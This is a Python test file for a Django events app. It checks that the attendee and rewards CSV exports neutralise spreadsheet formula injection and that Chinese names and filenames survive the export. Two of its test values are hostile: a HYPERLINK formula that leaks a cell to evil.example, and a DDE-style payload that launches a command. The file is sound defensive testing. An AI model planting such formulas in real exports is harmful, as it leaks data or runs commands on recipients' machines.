"""Each CSV the events app sends: a hostile name comes out as text, Chinese opens in Excel."""

import csv
import io

import pytest

from content.services import add_store_staff
from events import services
from events.rewards import services as reward_services
from portal import roles
from tests.factories import attend, make_user

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads UTF-8 only after the byte-order mark
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def test_attendee_csv_neutralises_a_hostile_member_and_staff_name(client, event, store):
    member = make_user("evil@example.com", roles.MEMBERS, display_name=HOSTILE)
    staff = make_user("evil-staff@example.com", display_name="@SUM(1+1)*cmd|' /C calc'!A0")
    add_store_staff(user=staff, store=store)
    attend(event, member, staff)
    client.force_login(staff)
    rows = rows_of(client.get(f"/checkin/{event.pk}/attendees.csv"))
    assert rows[0] == ["name", "email", "status", "registered_at", "checked_in_at", "checked_in_by"]
    assert rows[1][0] == "'" + HOSTILE
    assert rows[1][1:3] == ["evil@example.com", "attended"]
    assert rows[1][5] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_attendee_csv_of_an_event_with_a_chinese_slug(client, make_event, staff):
    event = make_event(title="美甲體驗日", slug="美甲體驗日")
    mei = make_user("mei@example.com", roles.MEMBERS, display_name="陳美玲")
    services.register_for_event(event=event, member=mei)
    client.force_login(staff)
    response = client.get(f"/checkin/{event.pk}/attendees.csv")
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E7%BE%8E%E7%94%B2%E9%AB%94%E9%A9%97%E6%97%A5-attendees.csv")
    assert rows_of(response)[1][:3] == ["陳美玲", "mei@example.com", "confirmed"]


def test_rewards_report_neutralises_store_names_and_keeps_amounts_numeric(
    client, make_event, store, member, staff, moderator
):
    store.title = "+886 Xinyi"
    store.save_revision().publish()
    attend(make_event(reward_points=30), member, staff)
    reward_services.adjust_points(member=member, amount=-30, note="double award", staff=moderator)
    client.force_login(moderator)
    response = client.get("/admin/rewards/reports/?format=csv")
    rows = rows_of(response)
    assert rows[0] == ["month", "points_issued", "points_redeemed", "points_adjusted"]
    assert rows[1][1:] == ["80", "0", "-30"]
    assert ["'+886 Xinyi", "1", "1"] in rows
    # The amounts are written bare, so a spreadsheet reads -30 as a number, not as text or a formula.
    assert response.content.decode().splitlines()[1].endswith('",80,0,-30')
